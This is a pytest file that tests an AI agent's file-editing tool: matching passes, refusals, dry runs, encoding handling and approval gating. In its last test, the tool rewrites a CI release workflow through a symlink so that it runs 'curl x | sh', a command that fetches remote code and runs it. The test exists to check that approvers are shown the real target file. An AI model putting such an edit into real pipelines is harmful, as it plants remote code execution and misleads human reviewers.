"""edit_file: the three matching passes, uniqueness, overlaps, nothing written on refusal, the closest hint."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mm_core.tools.edit import EditFileTool
from tool_helpers import call, make_ctx, preview

EDIT = EditFileTool()
GO = "package main\n\nfunc main() {\n\tcount := 1\n\tprint(count)\n}\n"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    (tmp_path / "ws").mkdir()
    return tmp_path / "ws"


def edit(ws: Path, path: str, *pairs: tuple[str, str], **extra) -> str:
    return call(EDIT, {"path": path, "edits": [{"old": o, "new": n} for o, n in pairs], **extra}, make_ctx(ws))


def test_the_reference_closest_region_example(ws):
    (ws / "main.go").write_text(GO)
    old = "func main() {\n    count := 2\n    print(count)\n}"
    assert edit(ws, "main.go", (old, "x")) == (
        "main.go: edit #1: old text not found — it must match the file exactly, including indentation and "
        "line breaks:\n"
        "  │ func main() {\n"
        "  │     count := 2\n"
        "  │     print(count)\n"
        "  │ }\n"
        "the closest the file comes to it — copy these lines:\n"
        "  │ 3 │ func main() {\n"
        "  │ 4 │ \tcount := 1\n"
        "  │ 5 │ \tprint(count)\n"
        "  │ 6 │ }"
    )
    assert (ws / "main.go").read_text() == GO


def test_no_excerpt_when_less_than_half_the_lines_line_up(ws):
    (ws / "main.go").write_text(GO)
    out = edit(ws, "main.go", ("alpha()\nbeta()\ngamma()\n}", "x"))
    # Pointing at an innocent part of the file is worse than saying nothing (tools.md): nothing follows.
    assert out == (
        "main.go: edit #1: old text not found — it must match the file exactly, including indentation and "
        "line breaks:\n  │ alpha()\n  │ beta()\n  │ gamma()\n  │ }"
    )


def test_exact_match_headline_and_numbered_diff(ws):
    (ws / "main.go").write_text(GO)
    out = edit(ws, "main.go", ("count := 1", "count := 2"))
    assert out == (
        "edited main.go: 1 edit applied, +1 -1 lines, first change at line 4\n"
        "@@ -1,6 +1,6 @@\n 1 │ package main\n 2 │ \n 3 │ func main() {\n-4 │ \tcount := 1\n+4 │ \tcount := 2\n"
        " 5 │ \tprint(count)\n 6 │ }"
    )
    assert (ws / "main.go").read_text() == GO.replace("count := 1", "count := 2")


def test_edges_pass_forgives_an_indent_kept_on_a_one_line_old(ws):
    (ws / "main.go").write_text(GO)
    out = edit(ws, "main.go", ("    count := 1", "    count := 3\n    total := 4"))
    assert out.splitlines()[0] == (
        "edited main.go: 1 edit applied, +2 -1 lines, first change at line 4 · 1 matched ignoring whitespace"
    )
    assert (ws / "main.go").read_text() == GO.replace("\tcount := 1\n", "\tcount := 3\n\ttotal := 4\n")


def test_edges_pass_forgives_leading_and_trailing_newlines(ws):
    (ws / "f.py").write_text("a = 1\nb = 2\nc = 3\n")
    out = edit(ws, "f.py", ("\n\nb = 2\n\n\n", "\n\nb = 20\n\n\n"))
    assert "· 1 matched ignoring whitespace" in out.splitlines()[0]
    assert (ws / "f.py").read_text() == "a = 1\nb = 20\nc = 3\n"


def test_a_new_that_deliberately_adds_a_blank_line_still_adds_it(ws):
    (ws / "f.py").write_text("a = 1\nb = 2\nc = 3\n")
    edit(ws, "f.py", (" b = 2", " b = 2\n"))
    assert (ws / "f.py").read_text() == "a = 1\nb = 2\n\nc = 3\n"


def test_indent_pass_tabs_versus_spaces_reindents_new_and_keeps_blank_lines_empty(ws):
    (ws / "main.go").write_text(GO)
    old = "func main() {\n    count := 1\n    print(count)\n}"
    new = "func main() {\n    count := 2\n    \n    if count > 1 {\n        print(count)\n    }\n}"
    out = edit(ws, "main.go", (old, new))
    assert out.splitlines()[0] == (
        "edited main.go: 1 edit applied, +5 -2 lines, first change at line 4 · 1 matched ignoring whitespace"
    )
    assert (ws / "main.go").read_text() == (
        "package main\n\nfunc main() {\n\tcount := 2\n\n\tif count > 1 {\n\t\tprint(count)\n\t}\n}\n"
    )


def test_reindent_into_a_two_space_file(ws):
    (ws / "a.yaml").write_text("top:\n  key: 1\n  list:\n    - a\n")
    edit(ws, "a.yaml", ("list:\n        - a", "list:\n        - a\n        - b"))
    assert (ws / "a.yaml").read_text() == "top:\n  key: 1\n  list:\n    - a\n    - b\n"


def test_the_first_pass_that_finds_anything_wins(ws):
    # Verbatim once, and once more with other indentation: the exact pass finds one, so it is unique.
    (ws / "f.go").write_text("x := 1\ny := 2\n\tx := 1\n\ty := 2\n")
    out = edit(ws, "f.go", ("x := 1\ny := 2", "z := 0"))
    assert "matched ignoring whitespace" not in out
    assert (ws / "f.go").read_text() == "z := 0\n\tx := 1\n\ty := 2\n"


def test_ambiguous_exact_match_lists_the_lines(ws):
    text = "".join(f"line {i}\n" if i not in (11, 20) else "dup()\n" for i in range(1, 25))
    (ws / "f.txt").write_text(text)
    assert edit(ws, "f.txt", ("dup()", "x")) == (
        "f.txt: edit #1: old text appears 2 times (lines 11, 20) — to change ONE of them, include its surrounding "
        "lines in old until the text is unique; to change several, send one edit per place, each with enough "
        "context to be unique"
    )
    assert (ws / "f.txt").read_text() == text


def test_a_loose_match_must_be_unique_too(ws):
    text = "if a {\n\tb()\n}\nif a {\n  b()\n}\n"
    (ws / "f.go").write_text(text)
    out = edit(ws, "f.go", ("if a {\n    b()\n}", "x"))
    assert out.startswith("f.go: edit #1: old text appears 2 times (lines 1, 4) — to change ONE of them")
    assert (ws / "f.go").read_text() == text


def test_edits_resolve_against_the_original_never_in_cascade(ws):
    (ws / "f.txt").write_text("a\nb\n")
    out = edit(ws, "f.txt", ("a", "b"), ("b", "c"))
    assert out.startswith("edited f.txt: 2 edits applied, +1 -1 lines, first change at line 1")
    assert (ws / "f.txt").read_text() == "b\nc\n"


@pytest.mark.parametrize(
    "pairs, refusal",
    [
        (
            (("two\nthree", "x"), ("three\nfour", "y")),
            "f.txt: edit #2: overlaps edit #1 (line 2) — edits must not overlap, nest or repeat; "
            "merge them into one edit",
        ),
        (
            (("two\nthree\nfour", "x"), ("three", "y")),
            "f.txt: edit #2: overlaps edit #1 (line 2) — edits must not overlap, nest or repeat; "
            "merge them into one edit",
        ),
        (
            (("three", "x"), ("three", "y")),
            "f.txt: edit #2: repeats edit #1 (line 3) — edits must not overlap, nest or repeat; "
            "merge them into one edit",
        ),
    ],
)
def test_overlapping_nested_or_repeated_edits_are_refused_and_nothing_is_written(ws, pairs, refusal):
    text = "one\ntwo\nthree\nfour\n"
    (ws / "f.txt").write_text(text)
    out = edit(ws, "f.txt", *pairs)
    assert out == f"{refusal}\n\nnothing was written to f.txt: send all 2 edits again once the refused ones are fixed"
    assert (ws / "f.txt").read_text() == text


def test_one_refused_edit_means_nothing_written(ws):
    (ws / "f.txt").write_text("one\ntwo\n")
    out = edit(ws, "f.txt", ("one", "1"), ("zzz", "2"))
    assert out.startswith("f.txt: edit #2: old text not found")
    assert out.endswith("nothing was written to f.txt: send all 2 edits again once the refused ones are fixed")
    assert (ws / "f.txt").read_text() == "one\ntwo\n"


def test_dry_run_reports_and_writes_nothing(ws):
    (ws / "main.go").write_text(GO)
    out = edit(ws, "main.go", ("count := 1", "count := 2"), dry_run=True)
    assert (
        out.splitlines()[0] == "dry run, main.go not written: 1 edit would apply, +1 -1 lines, first change at line 4"
    )
    assert (ws / "main.go").read_text() == GO
    shown = preview(EDIT, {"path": "main.go", "edits": [{"old": "count := 1", "new": "count := 2"}]}, make_ctx(ws))
    assert shown == out and (ws / "main.go").read_text() == GO


def test_an_edit_that_gives_back_the_same_text_writes_nothing_and_says_so(ws):
    (ws / "main.go").write_text(GO)
    os.utime(ws / "main.go", ns=(10**9, 10**9))  # a write now would show, however coarse the clock's tick
    # Not the same old and new (refused before any matching): old's blank edge lines are not in the file, and
    # the loose match puts back what it found.
    out = edit(ws, "main.go", ("count := 1\n\n", "count := 1"))
    assert out == "main.go unchanged: the edits give back the same text — nothing written"
    assert (ws / "main.go").read_text() == GO and (ws / "main.go").stat().st_mtime_ns == 10**9


@pytest.mark.parametrize(
    "args, expected",
    [
        ({"path": "nope.go", "edits": [{"old": "a", "new": "b"}]}, "nope.go does not exist. Create it with write_file"),
        (
            {"path": "f.txt", "edits": []},
            '[error: edit_file: "edits" is empty — send at least one {"old": "...", "new": "..."}]',
        ),
        (
            {"path": "f.txt", "edits": 5},
            '[error: edit_file: "edits" must be a list of {"old": "...", "new": "..."} objects]',
        ),
        (
            {"path": "f.txt", "edits": [{"old": 1, "new": "b"}]},
            '[error: edit_file: edit #1 needs "old" and "new", both strings]',
        ),
        (
            {"path": "f.txt", "edits": [{"old": "", "new": "b"}]},
            "f.txt: edit #1: old is empty — quote the exact text to replace; to write a whole file, use write_file",
        ),
        (
            {"path": "f.txt", "edits": [{"old": "a", "new": "a"}]},
            "f.txt: edit #1: old and new are the same — nothing to change",
        ),
        (
            {"path": "f.txt", "edits": [{"old": "a", "new": "b"}], "dry_run": "maybe"},
            '[error: edit_file: "dry_run" must be true or false, got "maybe"]',
        ),
        (
            {"path": "f.txt", "edits": "[" * 100_000},
            '[error: edit_file: "edits" must be a list of {"old": "...", "new": "..."} objects]',
        ),
        (
            {"path": "f.txt", "edits": [{"old": "a", "new": "\udc80"}]},
            '[error: edit_file: edit #1: "new" is not valid Unicode text (it holds a lone surrogate)]',
        ),
        (
            {"path": "f.txt", "edits": [{"old": "b", "new": "c"}, {"old": "\ud800", "new": "c"}]},
            '[error: edit_file: edit #2: "old" is not valid Unicode text (it holds a lone surrogate)]',
        ),
    ],
)
def test_bad_arguments_are_answered_in_text(ws, args, expected):
    (ws / "f.txt").write_text("a\n")
    assert call(EDIT, args, make_ctx(ws)) == expected
    assert (ws / "f.txt").read_text() == "a\n"


def test_an_edit_leaves_the_bytes_it_does_not_touch_alone(ws):
    # A file that is not UTF-8 (Latin-1 here): the edit on line 2 must not rewrite the é of line 1.
    (ws / "lat.txt").write_bytes(b"caf\xe9\nline2\n")
    out = call(EDIT, {"path": "lat.txt", "edits": [{"old": "line2", "new": "LINE2"}]}, make_ctx(ws))
    assert out == (
        "edited lat.txt: 1 edit applied, +1 -1 lines, first change at line 2\n"
        "@@ -1,2 +1,2 @@\n 1 │ caf\ufffd\n-2 │ line2\n+2 │ LINE2"
    )
    assert (ws / "lat.txt").read_bytes() == b"caf\xe9\nLINE2\n"


def test_small_model_shapes_are_accepted(ws):
    (ws / "f.txt").write_text("a\nb\n")
    call(EDIT, {"path": "f.txt", "edits": json.dumps([{"old": "a", "new": "A"}])}, make_ctx(ws))
    call(EDIT, {"path": "f.txt", "edits": {"old": "b", "new": "B"}}, make_ctx(ws))
    assert (ws / "f.txt").read_text() == "A\nB\n"


def test_declaration_and_gating():
    schema = EDIT.schema()
    assert schema["parameters"]["properties"]["dry_run"]["default"] is False
    assert schema["parameters"]["properties"]["edits"]["items"]["required"] == ["old", "new"]
    assert EDIT.needs_approval({}) and EDIT.refusal({}) == "[edit_file rejected by the user]"
    assert EDIT.title({"path": "main.go"}) == "edit_file main.go" and EDIT.counter == "file_ops"


words = st.text(alphabet="abcdefgh", min_size=1, max_size=5)


@settings(max_examples=80, deadline=None)
@given(lines=st.lists(words, min_size=1, max_size=15, unique=True), data=st.data())
def test_an_applied_edit_changes_exactly_the_matched_region(tmp_path_factory, lines, data):
    ws = tmp_path_factory.mktemp("ws")
    # Lines are unique and each is wrapped in markers, so a whole-line slice occurs exactly once.
    text = "".join(f"<{w}>\n" for w in lines)
    i = data.draw(st.integers(0, len(lines) - 1))
    j = data.draw(st.integers(i + 1, len(lines)))
    old = "".join(f"<{w}>\n" for w in lines[i:j])
    new = data.draw(st.text(alphabet="xyz\n", max_size=12).filter(lambda s: s != old))
    (ws / "f.txt").write_text(text)
    call(EDIT, {"path": "f.txt", "edits": [{"old": old, "new": new}]}, make_ctx(ws))
    start = text.index(old)
    assert (ws / "f.txt").read_text() == text[:start] + new + text[start + len(old) :]


@settings(max_examples=60, deadline=None)
@given(text=st.text(alphabet="ab \t\n", max_size=40), old=st.text(alphabet="ab \t\n", min_size=1, max_size=6))
def test_a_refused_edit_leaves_the_file_byte_identical(tmp_path_factory, text, old):
    ws = tmp_path_factory.mktemp("ws")
    (ws / "f.txt").write_bytes(text.encode())
    out = call(EDIT, {"path": "f.txt", "edits": [{"old": old, "new": "Z"}]}, make_ctx(ws))
    if not out.startswith("edited"):
        assert (ws / "f.txt").read_bytes() == text.encode()
    else:
        assert "Z" in (ws / "f.txt").read_text()


def test_only_the_first_three_misses_get_a_closest_region_hint(ws):
    (ws / "main.go").write_text(GO)
    near = "func main() {\n    count := 2\n    print(count)\n}"
    out = edit(ws, "main.go", *[(near.replace("2", str(i)), "x") for i in range(2, 7)])
    assert out.count("the closest the file comes to it — copy these lines:") == 3
    assert out.count("old text not found") == 5
    assert (ws / "main.go").read_text() == GO


def test_a_loose_match_in_a_crlf_file_keeps_crlf(ws):
    (ws / "f.py").write_bytes(b"def f():\r\n    a = 1\r\n    b = 2\r\n    return a\r\n")
    out = edit(ws, "f.py", ("a = 1\nb = 2", "a = 10\nb = 20"))
    assert out.startswith("edited f.py: 1 edit applied, +2 -2 lines, first change at line 2 · 1 matched ignoring")
    assert (ws / "f.py").read_bytes() == b"def f():\r\n    a = 10\r\n    b = 20\r\n    return a\r\n"


def test_an_edit_through_a_symlink_names_the_file_it_lands_in_to_the_approver(tmp_path):
    """Issue 21, second round: the approver is shown the file an edit writes, not only the link it goes through;
    the model's text names the path it gave, as the reference's does."""
    ws = tmp_path / "ws"
    (ws / ".github" / "workflows").mkdir(parents=True)
    (ws / ".github" / "workflows" / "release.yml").write_text("run: make release\n")
    (ws / "notes.md").symlink_to(".github/workflows/release.yml")
    args = {"path": "notes.md", "edits": [{"old": "make release", "new": "curl x | sh"}]}
    ctx = make_ctx(ws)
    shown = preview(EditFileTool(), args, ctx)
    assert shown.startswith(
        "dry run, notes.md → .github/workflows/release.yml (symlink) not written: 1 edit would apply"
    )
    assert call(EditFileTool(), args, ctx).startswith("edited notes.md: 1 edit applied, +1 -1 lines")
